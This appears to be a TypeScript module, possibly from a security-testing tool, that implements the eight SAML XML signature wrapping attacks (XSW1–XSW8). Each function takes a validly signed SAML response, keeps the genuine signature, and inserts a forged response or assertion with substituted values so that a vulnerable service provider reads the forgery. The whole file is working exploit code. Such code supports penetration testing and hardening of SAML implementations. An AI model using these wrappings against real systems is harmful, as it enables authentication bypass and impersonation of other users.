// Signature wrapping (Somorovsky and others, "On Breaking SAML: Be Whoever You Want to Be", 2012), in the eight shapes that
// SAML Raider made the usual ones: a good signature is kept, and what is read is put somewhere else.
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

const parse = (xml: string): Document => new DOMParser().parseFromString(xml, 'text/xml');
const serialise = (document: Document): string => new XMLSerializer().serializeToString(document);

const named = (within: Document | Element, name: string): Element => {
    const [found] = Array.from(within.getElementsByTagNameNS('*', name));
    if (!found) throw new Error(`there is no ${name}`);
    return found;
};
const copyOf = (element: Element): Element => element.cloneNode(true) as Element;
const unsigned = (element: Element): Element => {
    const copy = copyOf(element);
    const signature = named(copy, 'Signature');
    signature.parentNode?.removeChild(signature);
    return copy;
};

/** The element, saying something else under another id. */
type Forge = (element: Element) => Element;

/** In a response that is signed as a whole. */
const aroundResponse: Record<string, (document: Document, forged: Forge) => void> = {
    'XSW1, the signed response inside the signature of the forged one': (document, forged) => {
        const response = document.documentElement;
        const signature = copyOf(named(response, 'Signature'));
        const honest = unsigned(response);
        const evil = forged(unsigned(response));
        signature.appendChild(honest);
        evil.insertBefore(signature, evil.firstChild?.nextSibling ?? null);
        document.replaceChild(evil, response);
    },
    'XSW2, the signed response before the signature of the forged one': (document, forged) => {
        const response = document.documentElement;
        const signature = copyOf(named(response, 'Signature'));
        const honest = unsigned(response);
        const evil = forged(unsigned(response));
        const second = evil.firstChild?.nextSibling ?? null;
        evil.insertBefore(honest, second);
        evil.insertBefore(signature, second);
        document.replaceChild(evil, response);
    }
};

/** In a response whose assertion is signed. */
const aroundAssertion: Record<string, (document: Document, forged: Forge) => void> = {
    'XSW3, the forged assertion before the signed one': (document, forged) => {
        const assertion = named(document, 'Assertion');
        document.documentElement.insertBefore(forged(unsigned(assertion)), assertion);
    },
    'XSW4, the signed assertion inside the forged one': (document, forged) => {
        const assertion = named(document, 'Assertion');
        const evil = forged(unsigned(assertion));
        document.documentElement.replaceChild(evil, assertion);
        evil.appendChild(assertion);
    },
    'XSW5, the signature left in the forged assertion, the honest one behind it': (document, forged) => {
        const assertion = named(document, 'Assertion');
        const honest = unsigned(assertion);
        document.documentElement.replaceChild(forged(copyOf(assertion)), assertion);
        document.documentElement.appendChild(honest);
    },
    'XSW6, the honest assertion inside the signature of the forged one': (document, forged) => {
        const assertion = named(document, 'Assertion');
        const honest = unsigned(assertion);
        const evil = forged(copyOf(assertion));
        named(evil, 'Signature').appendChild(honest);
        document.documentElement.replaceChild(evil, assertion);
    },
    'XSW7, the forged assertion among extensions': (document, forged) => {
        const assertion = named(document, 'Assertion');
        const extensions = document.createElementNS(
            'urn:oasis:names:tc:SAML:2.0:protocol',
            'samlp:Extensions'
        );
        extensions.appendChild(forged(unsigned(assertion)));
        document.documentElement.insertBefore(extensions, assertion);
    },
    'XSW8, the honest assertion as an object of the forged one’s signature': (document, forged) => {
        const assertion = named(document, 'Assertion');
        const honest = unsigned(assertion);
        const evil = forged(copyOf(assertion));
        const object = document.createElementNS('http://www.w3.org/2000/09/xmldsig#', 'ds:Object');
        object.appendChild(honest);
        named(evil, 'Signature').appendChild(object);
        document.documentElement.replaceChild(evil, assertion);
    }
};

/** Each shape with what has to be signed for it, and the wrapped document: `honest` is said under the signature, `forged` beside. */
export const wrappings: readonly (readonly [
    name: string,
    signedPart: 'Response' | 'Assertion',
    wrap: (xml: string, honest: string, forged: string, sameId: boolean) => string
])[] = [...shapes('Response', aroundResponse), ...shapes('Assertion', aroundAssertion)];

function shapes(part: 'Response' | 'Assertion', from: typeof aroundResponse) {
    return Object.entries(from).map(([name, change]) => {
        const wrap = (xml: string, honest: string, forged: string, sameId: boolean): string => {
            const document = parse(xml);
            change(document, (element) => {
                const text = new XMLSerializer().serializeToString(element).replaceAll(honest, forged);
                const evil = document.importNode(parse(text).documentElement, true);
                if (!sameId) evil.setAttribute('ID', '_forged');
                return evil;
            });
            return serialise(document);
        };
        return [name, part, wrap] as const;
    });
}
